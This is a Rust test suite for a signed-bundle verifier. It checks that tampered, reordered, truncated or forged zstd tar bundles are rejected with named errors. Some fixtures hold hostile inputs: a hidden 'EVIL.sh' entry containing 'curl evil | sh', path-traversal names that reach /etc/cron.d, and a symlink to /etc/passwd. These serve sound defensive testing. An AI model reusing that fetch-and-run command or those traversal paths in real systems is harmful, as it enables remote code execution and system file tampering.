//! `bundle verify`: signature first, every entry against the index; every way a bundle
//! can be damaged or forged is rejected by name, the same whether the bundle is read in
//! one pass (one zstd frame) or frame by frame on several threads (seek table).

mod common;

use std::path::PathBuf;

use common::craft::{
    raw_tar, read_entries, sample_bundle, write_entries, write_entries_framed, write_raw_frames,
    RawEntry,
};
use common::{redact, Session};

struct Fixture {
    s: Session,
    bundle: PathBuf,
    public: PathBuf,
}

fn fixture() -> Fixture {
    let s = Session::new();
    let (secret, public) = s.keygen("builder");
    let bundle = s.path("sample.tar.zst");
    sample_bundle(&bundle, &secret);
    Fixture { s, bundle, public }
}

impl Fixture {
    fn verify(&self, bundle: &std::path::Path) -> common::Run {
        self.s.run(&[
            "verify",
            bundle.to_str().unwrap(),
            "--pubkey",
            self.public.to_str().unwrap(),
        ])
    }

    /// Re-packs the bundle after `change` twice, as one zstd frame and as one frame per
    /// entry with a seek table, and verifies both: the verdicts must be word for word
    /// the same.
    fn tampered(&self, change: impl FnOnce(&mut Vec<RawEntry>)) -> common::Run {
        let mut entries = read_entries(&self.bundle);
        change(&mut entries);
        let out = self.s.path("tampered.tar.zst");
        write_entries(&entries, &out);
        let one_pass = self.verify(&out);
        write_entries_framed(&entries, &out);
        let framed = self.verify(&out);
        assert_eq!(
            one_pass.transcript(),
            framed.transcript(),
            "read in one pass (left) and frame by frame (right)"
        );
        one_pass
    }

    fn position(entries: &[RawEntry], name: &str) -> usize {
        entries.iter().position(|e| e.name == name).unwrap()
    }
}

fn assert_rejected(run: &common::Run, message: &str) {
    assert_eq!(
        run.code,
        3,
        "expected rejection (exit 3):\n{}",
        run.transcript()
    );
    assert!(
        run.stderr.contains(message),
        "stderr lacks `{message}`:\n{}",
        run.stderr
    );
    assert!(
        run.stdout.is_empty(),
        "nothing on stdout for a rejected bundle: {}",
        run.stdout
    );
}

#[test]
fn verify_accepts_an_untouched_bundle() {
    let f = fixture();
    let run = f.verify(&f.bundle);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(
        run.stdout.starts_with("verified sample 1: 3 entries"),
        "{}",
        run.stdout
    );
    // Control: re-packing without a change is still accepted, so the rejections below
    // come from the tampering and not from the re-packing.
    let run = f.tampered(|_| {});
    assert_eq!(run.code, 0, "{}", run.transcript());
}

#[test]
fn verify_rejects_tampered_entry() {
    let f = fixture();
    let run = f.tampered(|e| {
        let i = Fixture::position(e, "files/b.bin");
        e[i].data[1000] ^= 1;
    });
    assert_rejected(&run, "entry `files/b.bin` does not match the index");
    insta::assert_snapshot!(redact(&run.transcript()), @r"
    exit code: 3
    ----- stdout -----
    ----- stderr -----
    error: entry `files/b.bin` does not match the index: sha256 expected [DIGEST], found [DIGEST]
    hint: the bundle was altered or damaged after it was built; do not use it, get a fresh copy and verify it again
    ");
}

#[test]
fn verify_rejects_changed_index() {
    let f = fixture();
    let run = f.tampered(|e| {
        let text = String::from_utf8(e[0].data.clone()).unwrap();
        e[0].data = text.replace("\"sample\"", "\"sampla\"").into_bytes();
    });
    assert_rejected(&run, "the signature of `bundle.json` does not verify");
}

#[test]
fn verify_rejects_signature_by_another_key() {
    let f = fixture();
    let (_, other) = f.s.keygen("other");
    let run = f.s.run(&[
        "verify",
        f.bundle.to_str().unwrap(),
        "--pubkey",
        other.to_str().unwrap(),
    ]);
    assert_rejected(&run, "`bundle.json` is signed by key ");
    assert!(
        run.stderr.contains("not by the trusted key"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("hint: pass the public key of whoever built this bundle"),
        "{}",
        run.stderr
    );
}

#[test]
fn verify_rejects_missing_last_entry() {
    let f = fixture();
    let run = f.tampered(|e| {
        e.pop();
    });
    assert_rejected(
        &run,
        "entry `files/c.yaml` is in the index but missing from the archive",
    );
}

#[test]
fn verify_rejects_missing_middle_entry() {
    let f = fixture();
    let run = f.tampered(|e| {
        let i = Fixture::position(e, "files/a.txt");
        e.remove(i);
    });
    assert_rejected(
        &run,
        "entry `files/b.bin` is out of order: the index lists `files/a.txt` next",
    );
}

#[test]
fn verify_rejects_added_entry() {
    let f = fixture();
    let run = f.tampered(|e| e.push(RawEntry::file("files/extra", b"surprise")));
    assert_rejected(&run, "entry `files/extra` is not in the index");
}

#[test]
fn verify_rejects_duplicated_entry() {
    let f = fixture();
    let run = f.tampered(|e| {
        let i = Fixture::position(e, "files/a.txt");
        let dup = e[i].clone();
        e.insert(i + 1, dup);
    });
    assert_rejected(&run, "entry `files/a.txt` appears more than once");
}

#[test]
fn verify_rejects_entries_out_of_order() {
    let f = fixture();
    let run = f.tampered(|e| {
        let a = Fixture::position(e, "files/a.txt");
        e.swap(a, a + 1);
    });
    assert_rejected(
        &run,
        "entry `files/b.bin` is out of order: the index lists `files/a.txt` next",
    );
}

#[test]
fn verify_rejects_an_out_of_order_entry_that_is_also_damaged_as_out_of_order() {
    // The frame holding `c.yaml` starts where `b.bin` should: a single pass meets the
    // order first, and so must a read frame by frame.
    let f = fixture();
    let run = f.tampered(|e| {
        let b = Fixture::position(e, "files/b.bin");
        e.remove(b);
        let c = Fixture::position(e, "files/c.yaml");
        e[c].declared_size = Some(e[c].data.len() as u64 + 2);
    });
    assert_rejected(
        &run,
        "entry `files/c.yaml` is out of order: the index lists `files/b.bin` next",
    );
}

#[test]
fn verify_rejects_entries_hidden_after_an_end_of_archive_block() {
    // tar stops at the first zero block: whatever follows is never extracted, so a
    // bundle hiding an entry there is not the bundle that was signed.
    let f = fixture();
    let entries = read_entries(&f.bundle);
    let evil = RawEntry::file("files/EVIL.sh", b"curl evil | sh\n");
    let zero_block = vec![0u8; 512];
    let out = f.s.path("hidden.tar.zst");

    // Frame by frame: a zero block and a hidden entry inside a middle frame...
    let mut frames = vec![raw_tar(&entries[..2])];
    frames.push(
        [
            raw_tar(&entries[2..3]),
            zero_block.clone(),
            raw_tar(std::slice::from_ref(&evil)),
        ]
        .concat(),
    );
    frames.push([raw_tar(&entries[3..]), vec![0u8; 1024]].concat());
    write_raw_frames(&frames, &out);
    assert_rejected(
        &f.verify(&out),
        "zstd frame 1 holds data after an end-of-archive block; tar would not extract it",
    );
    // ... or after the end of the last one.
    let last = frames.len() - 1;
    frames[1] = raw_tar(&entries[2..3]);
    frames[last].extend(raw_tar(std::slice::from_ref(&evil)));
    write_raw_frames(&frames, &out);
    assert_rejected(
        &f.verify(&out),
        "zstd frame 2 holds data after an end-of-archive block; tar would not extract it",
    );

    // In one pass: an entry after the end-of-archive blocks.
    let tar_bytes = [
        raw_tar(&entries),
        vec![0u8; 1024],
        raw_tar(&[evil]),
        vec![0u8; 1024],
    ]
    .concat();
    std::fs::write(&out, zstd::encode_all(tar_bytes.as_slice(), 3).unwrap()).unwrap();
    assert_rejected(
        &f.verify(&out),
        "the archive holds data after its end-of-archive block; tar would not extract it",
    );
    // Control: the same frames without the hidden entry verify.
    let frames = vec![
        raw_tar(&entries[..2]),
        raw_tar(&entries[2..3]),
        [raw_tar(&entries[3..]), vec![0u8; 1024]].concat(),
    ];
    write_raw_frames(&frames, &out);
    let run = f.verify(&out);
    assert_eq!(run.code, 0, "{}", run.transcript());
}

#[test]
fn verify_rejects_unsafe_paths() {
    for (name, reason) in [
        ("files/../../etc/cron.d/x", "`..` component"),
        ("/etc/cron.d/x", "absolute path"),
    ] {
        let f = fixture();
        let run = f.tampered(|e| e.insert(2, RawEntry::file(name, b"x")));
        assert_rejected(
            &run,
            &format!("entry `{name}` has an unsafe path: {reason}"),
        );
    }
}

#[test]
fn verify_rejects_links_and_devices() {
    let cases = [
        (tar::EntryType::Symlink, "symbolic link"),
        (tar::EntryType::Link, "hard link"),
        (tar::EntryType::Char, "character device"),
        (tar::EntryType::Block, "block device"),
        (tar::EntryType::Fifo, "fifo"),
        (tar::EntryType::Directory, "directory"),
    ];
    for (kind, word) in cases {
        let f = fixture();
        let run = f.tampered(|e| {
            let i = Fixture::position(e, "files/a.txt");
            e[i] = RawEntry {
                kind,
                data: vec![],
                link: Some("/etc/passwd".into()),
                ..e[i].clone()
            };
        });
        assert_rejected(
            &run,
            &format!("entry `files/a.txt` is a {word}; a bundle holds only regular files"),
        );
    }
}

#[test]
fn verify_rejects_entry_larger_than_the_index_says() {
    let f = fixture();
    let run = f.tampered(|e| {
        let i = Fixture::position(e, "files/a.txt");
        e[i].data.extend_from_slice(&[b'!'; 4096]);
    });
    assert_rejected(&run, "entry `files/a.txt` is 4126 bytes; the index says 30");
}

#[test]
fn verify_rejects_truncated_bundle() {
    let f = fixture();
    let data = std::fs::read(&f.bundle).unwrap();
    let cut = f.s.write("cut.tar.zst", &data[..data.len() / 2]);
    let run = f.verify(&cut);
    assert_rejected(&run, "error: bundle is truncated or corrupt");
}

/// The seek table's entries (compressed, decompressed) and where the first one starts.
fn seek_table(data: &[u8]) -> (usize, Vec<(u32, u32)>) {
    let n = data.len();
    let le = |at: usize| u32::from_le_bytes(data[at..at + 4].try_into().unwrap());
    assert_eq!(
        le(n - 4),
        0x8F92_EAB1,
        "the writer ends bundles with a seek table"
    );
    let count = le(n - 9) as usize;
    let start = n - 9 - 8 * count;
    let frames = (0..count)
        .map(|i| (le(start + 8 * i), le(start + 8 * i + 4)))
        .collect();
    (start, frames)
}

#[test]
fn verify_reads_a_built_bundle_frame_by_frame() {
    let f = fixture();
    let data = std::fs::read(&f.bundle).unwrap();
    let (_, frames) = seek_table(&data);
    // Index and signature, then the three small files together.
    assert_eq!(frames.len(), 2, "{frames:?}");
    let run = f.s.run(&[
        "verify",
        f.bundle.to_str().unwrap(),
        "--pubkey",
        f.public.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["framesReadInParallel"], 2);
    // `zstd -d` and tar see one ordinary archive: the table is a skippable frame.
    let (code, listing) = common::tool(
        "tar",
        &["-I", "zstd", "-tf", f.bundle.to_str().unwrap()],
        &f.s.work(),
    );
    assert_eq!(code, 0, "{listing}");
    assert_eq!(
        listing.lines().collect::<Vec<_>>(),
        [
            "bundle.json",
            "bundle.json.minisig",
            "files/a.txt",
            "files/b.bin",
            "files/c.yaml"
        ]
    );
}

#[test]
fn verify_rejects_a_seek_table_that_lies() {
    let f = fixture();
    let data = std::fs::read(&f.bundle).unwrap();
    let (start, frames) = seek_table(&data);
    let entry = |i: usize| start + 8 * i;

    // A frame said to decode to more than it does.
    let mut longer = data.clone();
    longer[entry(1) + 4..entry(1) + 8].copy_from_slice(&(frames[1].1 + 512).to_le_bytes());
    let run = f.verify(&f.s.write("longer.tar.zst", &longer));
    assert_rejected(&run, "does not match the seek table");

    // Frame boundaries moved (the sizes still add up to the file).
    let mut moved = data.clone();
    moved[entry(0)..entry(0) + 4].copy_from_slice(&(frames[0].0 + 7).to_le_bytes());
    moved[entry(1)..entry(1) + 4].copy_from_slice(&(frames[1].0 - 7).to_le_bytes());
    let run = f.verify(&f.s.write("moved.tar.zst", &moved));
    assert_rejected(&run, "error: bundle is truncated or corrupt");

    // Sizes that do not add up to the file.
    let mut short = data.clone();
    short[entry(1)..entry(1) + 4].copy_from_slice(&(frames[1].0 - 1).to_le_bytes());
    let run = f.verify(&f.s.write("short.tar.zst", &short));
    assert_rejected(
        &run,
        "seek table: seek table frames do not add up to the file size",
    );
}

#[test]
fn verify_rejects_a_file_that_is_not_zstd() {
    let f = fixture();
    let plain =
        f.s.write("plain.tar.zst", b"just some text, not a bundle\n");
    let run = f.verify(&plain);
    assert_rejected(&run, "is not a zstd-compressed bundle");
    let empty = f.s.write("empty.tar.zst", b"");
    assert_rejected(&f.verify(&empty), "is not a zstd-compressed bundle");
}

#[test]
fn verify_rejects_zstd_that_is_not_tar() {
    let f = fixture();
    let noise: Vec<u8> = (0..5000u32).map(|i| (i * 7 + 3) as u8).collect();
    let z = f.s.write(
        "noise.tar.zst",
        zstd::encode_all(noise.as_slice(), 3).unwrap(),
    );
    let run = f.verify(&z);
    assert_rejected(&run, "error: bundle is truncated or corrupt");
}

#[test]
fn verify_rejects_unsigned_bundle_unless_allowed() {
    let f = fixture();
    let mut entries = read_entries(&f.bundle);
    assert_eq!(entries[1].name, "bundle.json.minisig");
    entries.remove(1);
    let unsigned = f.s.path("unsigned.tar.zst");
    write_entries(&entries, &unsigned);
    let run = f.verify(&unsigned);
    assert_rejected(&run, "the bundle is not signed");
    assert!(run.stderr.contains("`--allow-unsigned`"), "{}", run.stderr);

    let run =
        f.s.run(&["verify", unsigned.to_str().unwrap(), "--allow-unsigned"]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(
        run.stderr.contains("warning:") && run.stderr.contains("NOT checked for a signature"),
        "{}",
        run.stderr
    );
    // --allow-unsigned still checks every entry.
    let mut entries = read_entries(&unsigned);
    entries[2].data[0] ^= 1;
    write_entries(&entries, &unsigned);
    let run =
        f.s.run(&["verify", unsigned.to_str().unwrap(), "--allow-unsigned"]);
    assert_rejected(&run, "does not match the index");
}

#[test]
fn verify_without_any_public_key_says_how_to_pass_one() {
    let f = fixture();
    let run = f.s.run(&["verify", f.bundle.to_str().unwrap()]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(
        run.stderr
            .contains("error: no public key to check the bundle's signature with"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("hint: pass `--pubkey FILE`"),
        "{}",
        run.stderr
    );
}

#[test]
fn minisign_cli_accepts_the_signature_and_sha256sum_the_checksum() {
    let f = fixture();
    let entries = read_entries(&f.bundle);
    let index = f.s.write("bundle.json", &entries[0].data);
    let sig = f.s.write("bundle.json.minisig", &entries[1].data);
    let (code, out) = common::tool(
        "minisign",
        &[
            "-V",
            "-p",
            f.public.to_str().unwrap(),
            "-m",
            index.to_str().unwrap(),
            "-x",
            sig.to_str().unwrap(),
        ],
        &f.s.work(),
    );
    assert_eq!(code, 0, "minisign -V: {out}");
    let (code, out) = common::tool("sha256sum", &["-c", "sample.tar.zst.sha256"], &f.s.work());
    assert_eq!(code, 0, "sha256sum -c: {out}");
    // Independent checks fail on tampering too.
    std::fs::write(
        &index,
        String::from_utf8(entries[0].data.clone())
            .unwrap()
            .replace("sample", "sampla"),
    )
    .unwrap();
    let (code, _) = common::tool(
        "minisign",
        &[
            "-V",
            "-p",
            f.public.to_str().unwrap(),
            "-m",
            index.to_str().unwrap(),
            "-x",
            sig.to_str().unwrap(),
        ],
        &f.s.work(),
    );
    assert_eq!(code, 1);
}

#[test]
fn inspect_shows_what_the_bundle_carries_and_who_signed_it() {
    let f = fixture();
    let run = f.s.run(&[
        "inspect",
        f.bundle.to_str().unwrap(),
        "--pubkey",
        f.public.to_str().unwrap(),
    ]);
    insta::assert_snapshot!(redact(&run.transcript()), @r"
    exit code: 0
    ----- stdout -----
    name:       sample
    version:    1
    created:    2026-01-01T00:00:00Z
    signature:  good, key [KEY_ID]

    images (0):

    files (3):
      a.txt   [DIGEST]  30 B        http://127.0.0.1/a.txt
      b.bin   [DIGEST]  195.31 KiB  http://127.0.0.1/b.bin
      c.yaml  [DIGEST]  16 B        http://127.0.0.1/c.yaml

    total: 3 entries, 195.36 KiB
    ----- stderr -----
    ");
    // Without a key the signature is said not to be checked, and the tampered index of
    // another bundle is refused when a key is given.
    let run = f.s.run(&["inspect", f.bundle.to_str().unwrap()]);
    assert!(
        run.stdout
            .contains("signature:  not checked (pass --pubkey)"),
        "{}",
        run.stdout
    );
    let run = f.tampered(|e| {
        let text = String::from_utf8(e[0].data.clone()).unwrap();
        e[0].data = text.replace("\"sample\"", "\"sampla\"").into_bytes();
    });
    assert_eq!(run.code, 3);
    let tampered = f.s.path("tampered.tar.zst");
    let run = f.s.run(&[
        "inspect",
        tampered.to_str().unwrap(),
        "--pubkey",
        f.public.to_str().unwrap(),
    ]);
    assert_rejected(&run, "the signature of `bundle.json` does not verify");
}
